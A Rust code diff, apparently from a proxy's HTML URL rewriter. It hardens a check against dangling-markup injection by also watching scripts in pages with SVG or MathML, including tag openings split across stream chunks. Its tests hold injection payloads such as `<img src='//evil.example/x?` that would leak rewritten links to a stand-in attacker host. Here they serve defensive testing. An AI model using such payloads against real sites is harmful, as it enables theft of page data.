@@ -164,31 +164,49 @@ fn misreadable_bytes(body: &[u8]) -> Option<&'static str> {
 /// Watches the text of a page for markup that this parser read as text while a browser may
 /// read it as tags: a `<` followed by a letter, `/`, `!` or `?` in a CDATA section, in the
 /// raw text of `<style>`, `<noscript>`, `<iframe>`, `<xmp>`, `<noembed>`, `<noframes>`, in
-/// the text of `<title>` or `<textarea>`, or after `<plaintext>`. Whether such text is text
-/// depends on the parser's view of the tree (SVG or MathML around it, scripts on or off),
-/// which tokenizers — a browser's own preload scanner included — do not all share; a tag
-/// one of them opens there can hold the rewritten links that follow inside one of its
-/// attributes (`<img src='//elsewhere/?…`) or set the page's base. Script bodies are not
-/// watched: they routinely build markup in strings, and text an attacker writes into a
-/// script is an attack of its own.
+/// the text of `<title>` or `<textarea>`, or after `<plaintext>` — and in a script once the
+/// page has opened `<svg` or `<math` (a `<script>` there is an SVG element whose content is
+/// markup). Whether such text is text depends on the parser's view of the tree (SVG or
+/// MathML around it, scripts on or off, `<select>`), which tokenizers — a browser's own
+/// preload scanner included — do not all share; a tag one of them opens there can hold the
+/// rewritten links that follow inside one of its attributes (`<img src='//elsewhere/?…`) or
+/// set the page's base. Scripts of pages without SVG or MathML are not watched: every
+/// parser reads them as scripts, and they routinely build markup in strings.
 #[derive(Debug, Default)]
 struct TextWatch {
     /// The last character of the text node so far was a `<`.
     after_lt: bool,
+    /// The raw bytes so far hold `<svg` or `<math`: scripts are watched too.
+    foreign: bool,
     /// Such markup was found.
     found: bool,
 }
 
+/// The openings of the tags that start foreign content (SVG, MathML), as raw bytes.
+const FOREIGN_OPENINGS: [&[u8]; 2] = [b"<svg", b"<math"];
+
+/// The longest of [`FOREIGN_OPENINGS`].
+const FOREIGN_OPENING_MAX: usize = 5;
+
+/// Whether `bytes` hold the opening of an SVG or MathML tag, ignoring ASCII case.
+fn opens_foreign_content(bytes: &[u8]) -> bool {
+    FOREIGN_OPENINGS
+        .iter()
+        .any(|tag| count_ignoring_case(bytes, tag) > 0)
+}
+
 impl TextWatch {
     fn feed(&mut self, chunk: &TextChunk<'_>) {
-        let watched = matches!(
-            chunk.text_type(),
-            TextType::CDataSection | TextType::RawText | TextType::RCData | TextType::PlainText
-        );
+        let watched = match chunk.text_type() {
+            TextType::CDataSection | TextType::RawText | TextType::RCData | TextType::PlainText => {
+                true
+            }
+            TextType::ScriptData => self.foreign,
+            TextType::Data => false,
+        };
         if watched && !self.found {
             for b in chunk.as_str().bytes() {
-                if self.after_lt && (b.is_ascii_alphabetic() || matches!(b, b'/' | b'!' | b'?'))
-                {
+                if self.after_lt && (b.is_ascii_alphabetic() || matches!(b, b'/' | b'!' | b'?')) {
                     self.found = true;
                     break;
                 }
@@ -381,7 +399,10 @@ impl UrlRewriter {
             && count_ignoring_case(body, b"formaction") == scan.button_actions.len()
             && (!scan.nested_forms || scan.form_actions.iter().all(goes_under_base))
             && scan.button_actions.iter().all(goes_under_base);
-        let watch = Mutex::new(TextWatch::default());
+        let watch = Mutex::new(TextWatch {
+            foreign: opens_foreign_content(body),
+            ..TextWatch::default()
+        });
         let mut out = Vec::with_capacity(body.len() + body.len() / 8);
         let handler = element!(SELECTOR, |el| {
             self.rewrite_element(el, &bases, document, id, hidden_field_allowed)
@@ -398,7 +419,11 @@ impl UrlRewriter {
         let mut rewriter = HtmlRewriter::new(settings, |chunk: &[u8]| out.extend_from_slice(chunk));
         rewriter.write(body).map_err(html_error)?;
         rewriter.end().map_err(html_error)?;
-        if watch.into_inner().unwrap_or_else(PoisonError::into_inner).found {
+        if watch
+            .into_inner()
+            .unwrap_or_else(PoisonError::into_inner)
+            .found
+        {
             return Err(refused(
                 "holds markup in text that the HTML parser read as text (CDATA, `<style>`, \
                  `<noscript>`, `<textarea>`, `<title>` …), which a browser may read as tags",
@@ -604,6 +629,7 @@ impl PageRewrite {
             started: false,
             head: Vec::new(),
             passthrough: false,
+            tail: Vec::new(),
         }
     }
 }
@@ -641,6 +667,8 @@ pub struct PageStream {
     head: Vec<u8>,
     /// The body is UTF-16: copied as it is.
     passthrough: bool,
+    /// The last bytes fed, for a `<svg` or `<math` cut across chunks.
+    tail: Vec<u8>,
 }
 
 impl std::fmt::Debug for PageStream {
@@ -682,11 +710,16 @@ impl PageStream {
     }
 
     fn feed(&mut self, chunk: &[u8]) -> Result<Vec<u8>> {
-        if misreadable_bytes(chunk).is_some() {
-            self.state
-                .lock()
-                .unwrap_or_else(PoisonError::into_inner)
-                .misread = true;
+        {
+            let mut st = self.state.lock().unwrap_or_else(PoisonError::into_inner);
+            st.misread |= misreadable_bytes(chunk).is_some();
+            if !st.watch.foreign {
+                // A tag opening cut across chunks: the last bytes of the one before.
+                self.tail.extend_from_slice(chunk);
+                st.watch.foreign = opens_foreign_content(&self.tail);
+                let keep = self.tail.len().min(FOREIGN_OPENING_MAX - 1);
+                self.tail.drain(..self.tail.len() - keep);
+            }
         }
         self.rewriter.write(chunk).map_err(html_error)?;
         Ok(self.drain())
@@ -833,6 +866,9 @@ mod tests {
             r#"<iframe><img src='//evil.example/x?</iframe>"#,
             r#"<style>x{}</style><style></style ><style>a{}</x><img src='//evil.example/x?</style>"#,
             r#"<plaintext><img src='//evil.example/x?"#,
+            // A script in a page with SVG or MathML may be an SVG element, its text markup.
+            r#"<math></math><script>var s = '<b>';</script>"#,
+            r#"<script>var s = '<b>';</script><SVG></SVG>"#,
         ] {
             for html in [format!("{attack}{links}"), format!("{links}{attack}")] {
                 assert!(refused(&path_rw(), &html), "{html}");
@@ -841,7 +877,12 @@ mod tests {
         }
         // Bytes a browser may decode otherwise: a UTF-16 byte order mark, NUL (UTF-16
         // without one), ESC (ISO-2022-JP's mode switches, which swallow quotes).
-        for prefix in [&b"\xff\xfe"[..], b"\xfe\xff", b"<p>\0</p>", b"<p>\x1b$B</p>"] {
+        for prefix in [
+            &b"\xff\xfe"[..],
+            b"\xfe\xff",
+            b"<p>\0</p>",
+            b"<p>\x1b$B</p>",
+        ] {
             let body = [prefix, links.as_bytes()].concat();
             let doc = path_rw().document_url("/app/page", None);
             assert!(
@@ -1242,6 +1283,7 @@ mod tests {
             r#"<noscript><img src='//evil.example/x?</noscript>"#,
             "<p>\x1b$B</p>",
             "<p>\0</p>",
+            "<svg></svg><script>'<b>'</script>",
         ] {
             let html = format!("{before}{attack}{after}");
             let first = format!("http://localhost:3000/app/a/-/{ID}");
@@ -1249,7 +1291,10 @@ mod tests {
                 let out = stream(&path_rw(), &html, chunk);
                 let ids = with_id(&out);
                 // Bytes that may be decoded otherwise stop ids from their whole chunk on.
-                assert!(ids == [first.as_str()] || ids.is_empty(), "chunk {chunk}: {out}");
+                assert!(
+                    ids == [first.as_str()] || ids.is_empty(),
+                    "chunk {chunk}: {out}"
+                );
                 if chunk == 1 {
                     assert_eq!(ids, [first.as_str()], "{out}");
                 }
@@ -1257,7 +1302,10 @@ mod tests {
         }
         // A UTF-16 byte order mark: no ids at all.
         let html = format!("\u{feff}{before}");
-        let utf16: Vec<u8> = [0xff, 0xfe].into_iter().chain(html.bytes().skip(3)).collect();
+        let utf16: Vec<u8> = [0xff, 0xfe]
+            .into_iter()
+            .chain(html.bytes().skip(3))
+            .collect();
         let page = crate::session::PageRewrite::new(
             path_rw(),
             path_rw().document_url("/app/page", None),
